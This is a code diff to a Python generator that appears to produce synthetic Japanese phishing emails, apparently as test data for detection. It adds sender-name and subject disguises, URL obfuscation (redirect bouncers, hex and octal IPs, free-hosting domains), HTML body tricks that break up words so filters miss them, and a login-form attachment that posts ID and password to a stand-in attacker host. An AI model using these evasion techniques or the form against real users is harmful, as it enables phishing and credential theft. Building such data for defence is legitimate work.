@@ -61,6 +61,18 @@ def display_name(r, kind, brand):
         return r.choice(ROLES), kind
     if kind == "suffix":
         return ja + r.choice(["株式会社", "事務局", "公式", " カスタマーセンター"]), kind
+    if kind == "empty":
+        return "", kind
+    if kind == "bracket":
+        return "【%s】" % ja, kind
+    if kind == "twotongue":
+        return "%s %s" % (en, ja) if en != ja else ja + " " + ja, kind
+    if kind == "symbol":
+        return r.choice(["%s®", "🔔 %s", "%s™ セキュリティ", "✔%s", "%s 🔒"]) % ja, kind
+    if kind == "zwname":
+        return r.choice("\u200b\u200d\u2060\u00ad").join(ja), kind
+    if kind == "alarm":
+        return r.choice(["【重要】%s", "%s【要返信不可】", "緊急連絡:%s", "%s様より"]) % ja, kind
     return ja, "plain"
 
 
@@ -85,6 +97,16 @@ def subject(r, kind, text):
         return text + "(自動配信メール)"
     if kind == "bullet":
         return r.choice("■◆※©") + text
+    if kind == "fwd":
+        return r.choice(["Fwd: ", "FW: ", "転送: "]) + text
+    if kind == "shy":
+        return "\u00ad".join(text)
+    if kind == "gaps":
+        return " ".join(text[:8]) + text[8:]
+    if kind == "tail":
+        return text + r.choice([" %s", "_%s", " #%s", " <%s>"]) % code(r, "x", 7)
+    if kind == "pipe":
+        return text + r.choice(["|ご案内", " - 自動通知", "(至急)", "【未読】"])
     return text
 
 
@@ -184,7 +206,101 @@ def link(r, kind, brand):
             else "xn--" + token + "-k63b7g", path), None
     if kind == "monotext":
         return plain, www.translate(MONO)
+    if kind == "gform":
+        return r.choice([
+            "https://docs.google.com/forms/d/e/1FAIpQLinvalid%s/viewform",
+            "https://sites.google.com/view/invalid-%s/home",
+            "https://forms.gle/invalid%s"]) % code(r, "x", 16), None
+    if kind == "bounce":
+        return r.choice([
+            "https://www.bing.com/ck/a?!&&p=%s",
+            "https://l.facebook.com/l.php?u=%s&h=AT0",
+            "https://www.youtube.com/redirect?q=%s",
+            "https://adclick.g.doubleclick.net/pcs/click?adurl=%s"]) % quote(
+                plain, safe=""), None
+    if kind == "kit":
+        return "https://%s/%s" % (host, r.choice([
+            "caonima=%s", "jp/%s/signin.php?token=", "660eb%s",
+            "#%s", "?p=%s&lang=ja_JP"]) % code(r, "x", 10)), None
+    if kind == "long":
+        return "https://%s/%s/%s?%s" % (
+            host, web, "-".join(code(r, "x", 9) for _ in range(9)), "&".join(
+                "%s=%s" % (code(r, "x", 3), code(r, "x", 14))
+                for _ in range(6))), None
+    if kind == "port":
+        return r.choice(["https://%s:8443/%s", "http://%s:2087/%s"]) % (
+            host, path), None
+    if kind == "hexip":
+        return r.choice(["http://0xcb.0x0.0x71.0x%x/%s", "http://0xcb0071%02x/%s",
+                         "http://0313.0.0161.0%o/%s"]) % (
+                             r.randrange(16, 250), path), None
+    if kind == "upper":
+        return "HTTPS://%s.%s/%s" % (web.upper(), host, path), None
+    if kind == "backslash":
+        return "https:\\\\%s/%s" % (host, path), None
+    if kind == "pages":
+        return "https://%s-invalid.%s/%s" % (
+            r.choice([token + "-jp", code(r, "x", 8)]), r.choice([
+                "pages.dev", "web.app", "github.io", "netlify.app",
+                "r2.dev", "ngrok-free.app", "weebly.com"]), path), None
+    if kind == "under":
+        return "https://%s/%s/%s" % (host, www, path), None
+    if kind == "query":
+        return "https://%s/?continue=https://%s/login" % (host, www), None
     return plain, None
+
+
+# What half C has besides.
+MORE = {
+    "name": ["empty", "empty", "bracket", "twotongue", "symbol", "symbol",
+             "zwname", "alarm"],
+    "subject": ["fwd", "shy", "gaps", "tail", "tail", "pipe"],
+    "url": ["gform", "gform", "bounce", "bounce", "kit", "kit", "long", "port",
+            "hexip", "upper", "backslash", "pages", "pages", "under", "query"],
+    "body": ["salt", "salt", "entity", "entity", "shy", "white", "chopped"],
+}
+MANGLE = {"salt", "entity", "shy", "white", "chopped"}
+RUN = re.compile("[\u3041-\u30fe\u4e00-\u9fff]+")
+
+
+def mangle(r, kind, text):
+    """Breaks the words of an HTML body in ways a reader does not see."""
+    def run(match):
+        word = match.group(0)
+        if kind == "entity":
+            return "".join("&#%d;" % ord(c) if r.random() < 0.7 else
+                           "&#x%x;" % ord(c) for c in word)
+        if kind == "shy":
+            return "&shy;".join(word)
+        if kind == "chopped":
+            return "".join("<b style=\"font-weight:normal\">%s</b>" % c
+                           for c in word)
+        if kind == "salt":
+            return "".join(
+                c + ('<span style="font-size:0">%s</span>' % code(r, "x", 3)
+                     if r.random() < 0.4 else "") for c in word)
+        return word
+    at = text.lower().find("<body")
+    head, rest = text[:at], text[at:]
+    out = [head]
+    for tag in re.finditer("<[^>]*>|[^<]+", rest):
+        piece = tag.group(0)
+        out.append(piece if piece[0] == "<" else RUN.sub(run, piece))
+    text = "".join(out)
+    if kind == "white":
+        words = " ".join(r.choice(["写真", "遠足", "町内会", "見積", "朝顔", "将棋",
+                                   "献立", "時刻表"]) for _ in range(60))
+        text = re.sub("(?i)</body>", lambda m: '<p style="color:#fefefe;'
+                      'font-size:1px">' + words + "</p>" + m.group(0), text)
+    return text
+
+
+def form_file(brand, r):
+    """A page with a login form, as an attachment."""
+    return ('<!DOCTYPE html><meta charset="utf-8"><title>%s</title>\n<form '
+            'method="post" action="https://%s/%s"><p>ID <input name="u"><p>'
+            'パスワード <input type="password" name="p"><p><button>送信</button>'
+            '</form>\n' % (brand["ja"], evil_host(r), code(r, "x", 6)))
 
 
 BODY_KINDS = ["none"] * 9 + ["padding", "padding", "padding", "chinese",
